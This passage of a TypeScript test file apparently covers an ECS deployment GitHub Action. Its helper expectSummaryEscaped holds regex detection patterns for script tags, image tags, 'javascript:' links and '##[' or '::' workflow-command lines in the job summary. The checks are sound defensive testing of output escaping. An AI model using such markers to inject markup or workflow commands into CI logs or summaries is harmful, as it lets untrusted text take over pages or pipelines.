    expect(await mutatingCalls(stack)).toEqual([]);
    expect(await ecsState()).toEqual(before);
  }
  if (row.extra?.noCredentials) {
    expect(result.annotations.filter((a) => a.level === 'error').map((a) => a.message)).toEqual([
      NO_CREDENTIALS,
    ]);
  }
  const sent = row.extra?.sent;
  if (sent !== undefined) {
    const calls = await stack.simulator.calls({ service: 'ecs', operation: sent.operation });
    expect(calls.map((c) => JSON.stringify(c.params)).join('\n')).toContain(JSON.stringify(sent.holds));
  }
  if (row.extra?.awsTexts) expectSummaryEscaped(result.summary);
  if (!changesNothing(row.expect)) await seedServices();
});

/**
 * ECS's texts in the job summary (GitHub-flavoured Markdown with inline HTML) are escaped (kit
 * escapeSummary): they are there, no tag or javascript: link opens, no `##[` or line starting with
 * `::` is left, and rendered they read as the text ECS sent.
 */
function expectSummaryEscaped(summary: string): void {
  expect(summary).toContain(MARK);
  expect(summary).not.toMatch(/<script|<img|(?<!\\)\]\(javascript:|##\[/);
  expect(summary.split('\n').filter((line) => /^\s*::/.test(line))).toEqual([]);
  const shown = renderSummary(summary);
  expect(shown.html).not.toMatch(/<script|<img|<strong>bold|href="javascript:/);
  expect(shown.text).toContain(MARK);
}
